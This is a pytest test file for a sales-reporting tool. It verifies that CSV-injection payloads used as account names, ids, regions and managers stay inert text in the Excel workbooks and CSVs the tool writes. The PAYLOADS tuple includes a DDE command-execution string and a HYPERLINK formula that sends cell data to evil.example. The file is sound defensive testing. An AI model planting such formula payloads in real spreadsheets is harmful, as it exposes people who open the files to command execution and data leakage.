"""Names from data never run as formulas in the workbooks and CSVs kamreport writes.

The OWASP "CSV injection" payloads are used as account names, regions, KA managers and
account ids on the tiny dataset of the target tests; the outputs are opened through
openpyxl, the csv module and LibreOffice, and the targets workbook still imports.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from kamreport.analytics.target_proposals import propose, spread_monthly
from kamreport.cli import main
from kamreport.loading import load_dataset
from kamreport.params import DataParams, Params, TargetsParams
from kamreport.provenance import Provenance
from kamreport.reports import portfolio
from kamreport.reports.targets import import_targets
from kamreport.spreadsheet_safety import as_text, csv_field, csv_safe_frame, starts_like_formula
from kamreport.targets_store import write_targets
from kamreport.workbook.build import build_workbook, workbook_bytes
from tests.conftest import libreoffice_convert
from tests.test_targets_proposals import ACCOUNTS, AS_OF, YEAR, tables, tiers

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)
# the same without leading whitespace, which the loader strips from every text value
LOADED_PAYLOADS = tuple(p.strip() for p in PAYLOADS)
IDS = {"A1": "=X", "A2": "-KA1", "A3": "@SUM(A1)", "A4": "+A4"}  # A5, A6 stay
NAMES = dict(zip(ACCOUNTS, PAYLOADS, strict=False))
MANAGERS = {"A1": PAYLOADS[1], "A2": PAYLOADS[1], "A3": "-2+3", "A4": "\t=1+1", "A5": "-2+3"}
REGIONS = {"A1": "=1+1", "A2": "\r=1+1", "A3": "=1+1", "A4": "@SUM(1+1)", "A5": "=1+1"}
GOAL = 6_000_000.0
PROVENANCE = Provenance(
    version="0", as_of=AS_OF.isoformat(), data_hash="d" * 64, params={}, params_hash="p" * 64,
    source="test", generated_at="2026-10-01T08:00:00", confidentiality="INTERNAL", locale="en",
    python="3",
)  # fmt: skip


def hostile_accounts() -> pd.DataFrame:
    """The tiny dataset's accounts with a payload as every name, region and KA manager."""
    accounts = tables()["accounts"]
    ids = accounts["account_id"]
    accounts["name"] = ids.map(NAMES)
    accounts["ka_manager"] = ids.map(MANAGERS)  # A6 has none
    accounts["region"] = ids.map(REGIONS).fillna("-2+3")
    return accounts


def plain_accounts() -> pd.DataFrame:
    """The same grouping of accounts under harmless names."""
    accounts = hostile_accounts()
    for column in ("name", "ka_manager", "region"):
        codes = {v: f"{column} {i}" for i, v in enumerate(accounts[column].dropna().unique())}
        accounts[column] = accounts[column].map(codes)
    return accounts


@pytest.fixture(scope="module")
def proposals():
    t = tables()
    return propose(t["order_lines"], t["wallet"], AS_OF, YEAR, tiers(), TargetsParams())


def build(proposals, accounts: pd.DataFrame):
    return build_workbook(
        proposals, accounts, goal=GOAL, tolerance=0.02, currency="CNY", generated="2026-12-01"
    )


def saved(book, path: Path) -> Path:
    path.write_bytes(workbook_bytes(book))
    return path


def formula_cells(book) -> set[tuple[str, str]]:
    return {
        (sheet.title, cell.coordinate)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


def data_cells(book) -> dict[tuple[str, str], str]:
    """Every Accounts cell of id, name, KA manager and region, and the Summary's group
    names (column A between a group's header row and its total)."""
    cells = {}
    accounts = book["Accounts"]
    for row in accounts.iter_rows(min_row=2, max_col=4):
        for cell in row:
            cells[("Accounts", cell.coordinate)] = cell
    summary = book["Summary"]
    inside = False
    for (cell,) in summary.iter_rows(min_row=17, max_col=1):
        text = "" if cell.value is None else str(cell.value)
        if text.startswith("KA manager / ") or text.startswith("Region / "):
            inside = True
        elif text.startswith("Total / "):
            inside = False
        elif inside and text:
            cells[("Summary", cell.coordinate)] = cell
    return cells


def group_rows(book) -> dict[str, list[tuple[str, object]]]:
    """(name, accounts counted) of each Summary group table, in row order."""
    groups: dict[str, list[tuple[str, object]]] = {}
    current = None
    for name, count in book["Summary"].iter_rows(min_row=17, max_col=2, values_only=True):
        text = "" if name is None else str(name)
        if text.startswith(("KA manager / ", "Region / ")):
            current = groups.setdefault(text.split(" / ")[0], [])
        elif text.startswith("Total / "):
            current = None
        elif current is not None and text:
            current.append((text, count))
    return groups


# --- the rule itself ------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_owasp_payload_gets_an_apostrophe_in_csv(payload):
    assert starts_like_formula(payload)
    assert csv_field(payload) == "'" + payload
    assert csv_field(csv_field(payload)) == csv_field(payload)  # applying it twice is harmless


@pytest.mark.parametrize("value", ["-5", "+1.5e3", "-0.25", "KA0001", "王伟", "a=b", "", " -x"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert csv_field(value) == value


def test_a_frame_keeps_its_numbers_and_dates():
    frame = pd.DataFrame(
        {
            "name": ["=1+1", "-5", None],
            "amount": [-1.5, -2.0, 3.0],
            "mixed": pd.Series([-7, "@x", None], dtype=object),
            "day": pd.to_datetime(["2026-01-01"] * 3),
        }
    )
    out = csv_safe_frame(frame)
    assert out["name"].tolist()[:2] == ["'=1+1", "-5"] and pd.isna(out["name"].iloc[2])
    assert out["amount"].tolist() == [-1.5, -2.0, 3.0] and out["amount"].dtype == float
    assert out["mixed"].tolist()[:2] == [-7, "'@x"]
    assert out["day"].equals(frame["day"])
    assert frame["name"].iloc[0] == "=1+1"  # the input is not changed


# --- the targets workbook -------------------------------------------------------------


def test_the_workbook_holds_names_as_text_and_only_its_own_formulas(proposals, tmp_path):
    hostile = build(proposals, hostile_accounts())
    plain = build(proposals, plain_accounts())
    assert formula_cells(hostile) == formula_cells(plain)  # no name became a formula
    cells = data_cells(hostile)
    assert len(cells) == 4 * len(ACCOUNTS) + 4 + 4  # 4 KA managers (one "—"), 4 regions
    expected = hostile_accounts().set_index("account_id")
    for r, account in enumerate(proposals.accounts.index, start=2):
        assert hostile["Accounts"][f"B{r}"].value == expected.loc[account, "name"]
        assert hostile["Accounts"][f"D{r}"].value == expected.loc[account, "region"]
    reread = load_workbook(saved(hostile, tmp_path / "hostile.xlsx"))
    assert formula_cells(reread) == formula_cells(plain)
    for where, cell in data_cells(reread).items():
        original = cells[where].value
        assert cell.data_type == "s", where
        # the text is unchanged, a carriage return included (written as &#13;)
        assert cell.value == original, where
        assert cell.quotePrefix == starts_like_formula(original), where
    groups = group_rows(reread)
    regions = hostile_accounts().set_index("account_id")["region"]
    size = proposals.accounts["proposal"].groupby(regions).sum()  # largest first
    regions = sorted(size.index, key=lambda name: (-size[name], name))
    assert [name for name, _ in groups["Region"]] == list(regions)


def hostile_data(folder: Path, *, ids: dict[str, str] = IDS) -> Path:
    """The tiny dataset as a CSV folder with payload ids, names, regions and managers."""
    folder.mkdir(parents=True, exist_ok=True)
    loaded = dict(zip(ACCOUNTS, LOADED_PAYLOADS, strict=False))
    for name, frame in tables().items():
        out = frame.copy()
        if name == "accounts":
            out["name"] = out["account_id"].map(loaded)
            out["ka_manager"] = out["account_id"].map(MANAGERS).str.strip()
            out["region"] = out["account_id"].map(REGIONS).fillna("-2+3").str.strip()
        if "account_id" in out:
            out["account_id"] = out["account_id"].replace(ids)
        if "order_date" in out:
            out["order_date"] = out["order_date"].dt.strftime("%Y-%m-%d")
        out.to_csv(folder / f"{name}.csv", index=False)
    return folder


def hostile_proposals():
    t = tables()
    lines = t["order_lines"].assign(account_id=t["order_lines"]["account_id"].replace(IDS))
    wallet = t["wallet"].assign(account_id=t["wallet"]["account_id"].replace(IDS))
    tier = tiers().rename(index=IDS)
    return propose(lines, wallet, AS_OF, YEAR, tier, TargetsParams())


def test_ids_that_look_like_formulas_survive_the_workbook_round_trip(tmp_path):
    data = hostile_data(tmp_path / "data")
    dataset = load_dataset(DataParams(source=str(data)))
    assert set(IDS.values()) <= set(dataset.accounts["account_id"])
    proposals = hostile_proposals()
    path = saved(build(proposals, dataset.accounts), tmp_path / f"targets-{YEAR}.xlsx")
    book = load_workbook(path)  # as a user's program opens, edits and saves it
    sheet = book["Accounts"]
    rows = {sheet[f"A{r}"].value: r for r in range(2, len(ACCOUNTS) + 2)}
    assert set(IDS.values()) <= set(rows)
    sheet[f"Q{rows['=X']}"] = 2_000_000.0
    sheet[f"S{rows['-KA1']}"] = 500_000.0
    book.save(path)
    params = Params(data=DataParams(source=str(data)), targets=TargetsParams(tolerance=0.5))
    result = import_targets(path, YEAR, params, base_dir=data, progress=lambda message: None)
    assert result.accounts == len(ACCOUNTS)
    with open(data / "targets.csv", encoding="utf-8", newline="") as handle:
        written: dict[str, float] = {}
        for row in csv.DictReader(handle):
            written[row["account_id"]] = written.get(row["account_id"], 0.0) + float(
                row["revenue_target"]
            )
    # the targets table holds the ids exactly as the accounts table does
    assert set(written) == set(dataset.accounts["account_id"])
    assert written["=X"] == pytest.approx(2_000_000.0)
    assert written["-KA1"] == pytest.approx(500_000.0)
    targets = load_dataset(DataParams(source=str(data))).get("targets")
    loaded = targets.groupby("account_id")["revenue_target"].sum()
    assert loaded["=X"] == pytest.approx(2_000_000.0)


def test_targets_written_into_a_workbook_source_stay_text(tmp_path):
    path = tmp_path / "kam.xlsx"
    book = Workbook()
    book.active.title = "accounts"
    sheet = book.create_sheet("targets")
    sheet.append(["account_id", "month", "revenue_target", "visits_target"])
    sheet.append(["KEEP", dt.datetime(2026, 5, 1), 10.0, "=1+1"])  # the user's own formula
    as_text(sheet.cell(row=3, column=1, value="=OLD"))  # a text id of an earlier year
    sheet.cell(row=3, column=2, value=dt.datetime(2026, 6, 1))
    sheet.cell(row=3, column=3, value=-5.0)
    book.save(path)
    monthly = spread_monthly(pd.Series({"=X": 1_200_000.0, "-KA1": 600_000.0}), YEAR)
    write_targets(DataParams(source=str(path)), monthly)
    reread = load_workbook(path)["targets"]
    cells = {(c.row, c.column): c for row in reread.iter_rows() for c in row}
    ids = [cells[(r, 1)] for r in range(2, reread.max_row + 1)]
    assert {c.value for c in ids} == {"KEEP", "=OLD", "=X", "-KA1"}
    assert all(c.data_type == "s" for c in ids)
    assert [c.value for c in ids].count("=X") == 12
    assert cells[(2, 4)].data_type == "f" and cells[(2, 4)].value == "=1+1"
    assert cells[(3, 3)].value == -5.0 and cells[(3, 3)].data_type == "n"
    read = pd.read_excel(path, sheet_name="targets", dtype={"account_id": str})
    assert read.groupby("account_id")["revenue_target"].sum()["=X"] == pytest.approx(1_200_000.0)


# --- the CSVs -------------------------------------------------------------------------


def parse_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_accounts_csv_neutralises_names_and_keeps_numbers(tmp_path):
    data = hostile_data(tmp_path / "data")
    dataset = load_dataset(DataParams(source=str(data)))
    as_of = dt.date(2026, 9, 15)
    params = Params()
    review = portfolio.analyse(dataset, as_of, params)
    table = portfolio.accounts_table(review, dataset, params)
    staging = tmp_path / "staging"
    staging.mkdir()
    portfolio.write(staging, "<html></html>", table, PROVENANCE)
    rows = parse_csv((staging / "accounts.csv").read_text(encoding="utf-8-sig"))
    assert len(rows) == len(ACCOUNTS)
    original = dataset.accounts.set_index("account_id")
    seen_ids = set()
    for row in rows:
        account = row["account_id"].removeprefix("'")
        seen_ids.add(account)
        assert row["account_id"] == csv_field(account)
        for column in ("name", "ka_manager", "region"):
            value = original.loc[account, column]
            expected = "" if pd.isna(value) else csv_field(value)
            assert row[column] == expected, (account, column)
        assert float(row["revenue_ltm"]) == pytest.approx(
            table.set_index("account_id").loc[account, "revenue_ltm"]
        )
    assert seen_ids == set(original.index)
    assert any(float(row["revenue_growth"]) < 0 for row in rows)  # negative numbers stay numbers
    assert not any(starts_like_formula(v) for row in rows for v in row.values())


def test_metrics_csv_neutralises_ids(tmp_path, capsys):
    data = hostile_data(tmp_path / "data")
    code = main(
        ["metrics", "--all", "--format", "csv", "--source", str(data), "--as-of", "2026-09-15",
         "--output-dir", str(tmp_path / "out")]
    )  # fmt: skip
    assert code == 0
    rows = parse_csv(capsys.readouterr().out)
    ids = [row["account_id"] for row in rows]
    assert sorted(ids) == sorted(
        csv_field(a) for a in ["=X", "-KA1", "@SUM(A1)", "+A4", "A5", "A6"]
    )
    assert "'=X" in ids and "A5" in ids


# --- LibreOffice ----------------------------------------------------------------------


CSV_FILTER = "Text - txt - csv (StarCalc):44,34,76,1"  # comma-separated UTF-8, one header row
# the same, exporting the Accounts sheet (the second) of a workbook
ACCOUNTS_AS_CSV = f"csv:{CSV_FILTER},,0,false,true,false,false,false,2"


def libreoffice(source: Path, to: str, tmp_path: Path) -> Path:
    """``source`` converted by LibreOffice headless (a workbook is recalculated on the way)."""
    out = tmp_path / f"converted-{len(list(tmp_path.glob('converted-*')))}"
    return libreoffice_convert(
        source, to, out, infilter=CSV_FILTER if source.suffix == ".csv" else ""
    )


@pytest.mark.system
def test_libreoffice_shows_the_workbook_names_and_runs_none(proposals, tmp_path):
    hostile = build(proposals, hostile_accounts())
    path = saved(hostile, tmp_path / "targets.xlsx")
    recalculated = libreoffice(path, "xlsx", tmp_path)
    book = load_workbook(recalculated)
    expected = {where: cell.value for where, cell in data_cells(hostile).items()}
    found = data_cells(book)
    assert set(found) == set(expected)
    for where, cell in found.items():
        assert cell.data_type == "s", where
        assert cell.value == expected[where], where
    # the group tables count each manager's and region's accounts by exact name
    accounts = hostile_accounts()
    counts = {
        "KA manager": accounts["ka_manager"].fillna("—").value_counts(),
        "Region": accounts["region"].value_counts(),
    }
    values = group_rows(load_workbook(recalculated, data_only=True))
    for group, rows in values.items():
        assert dict(rows) == dict(counts[group]), group
    # the Accounts sheet as text: every name shown as written
    shown = libreoffice(recalculated, ACCOUNTS_AS_CSV, tmp_path).read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(shown, newline="")))
    assert [row[1] for row in rows[1:]] == [
        hostile["Accounts"][f"B{r}"].value for r in range(2, len(ACCOUNTS) + 2)
    ]


@pytest.mark.system
def test_libreoffice_opens_accounts_csv_as_text(tmp_path):
    data = hostile_data(tmp_path / "data")
    dataset = load_dataset(DataParams(source=str(data)))
    params = Params()
    review = portfolio.analyse(dataset, dt.date(2026, 9, 15), params)
    table = portfolio.accounts_table(review, dataset, params)
    staging = tmp_path / "staging"
    staging.mkdir()
    portfolio.write(staging, "<html></html>", table, PROVENANCE)
    # the same file without the apostrophes, to show that LibreOffice would run them
    raw = tmp_path / "raw" / "accounts.csv"
    raw.parent.mkdir()
    raw.write_text(table[["account_id", "name"]].to_csv(index=False), encoding="utf-8")
    ran = load_workbook(libreoffice(raw, "xlsx", tmp_path)).active
    assert any(cell.data_type == "f" for row in ran.iter_rows(min_row=2) for cell in row)
    sheet = load_workbook(libreoffice(staging / "accounts.csv", "xlsx", tmp_path)).active
    header = [c.value for c in sheet[1]]
    name, account = header.index("name") + 1, header.index("account_id") + 1
    original = dataset.accounts.set_index("account_id")["name"]
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    for r in range(2, sheet.max_row + 1):
        account_id = str(sheet.cell(row=r, column=account).value).removeprefix("'")
        assert sheet.cell(row=r, column=name).value == csv_field(original[account_id])
